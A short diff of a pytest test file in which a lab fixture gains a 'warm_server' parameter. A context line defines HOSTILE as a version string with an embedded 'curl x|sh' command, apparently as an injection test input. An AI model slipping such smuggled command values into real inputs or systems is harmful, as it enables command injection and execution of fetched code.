@@ -32,9 +32,9 @@ HOSTILE = 'v1.0";curl x|sh;"'
 
 
 @pytest.fixture(scope="module")
-def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
+def lab(tmp_path_factory: pytest.TempPathFactory, warm_server: dict[str, str]) -> Iterator[Lab]:
     with GitHubServer() as github:
-        lab = make_lab(tmp_path_factory.mktemp("lab"), github)
+        lab = make_lab(tmp_path_factory.mktemp("lab"), github, warm_server)
         # The floor has tests of its own, and takes seconds of each judgement.
         edit_yaml(lab.repository / "params/micro.yaml", lambda params: params["floor"].update(participants=0))
         commit_all(lab.repository, "no floor")
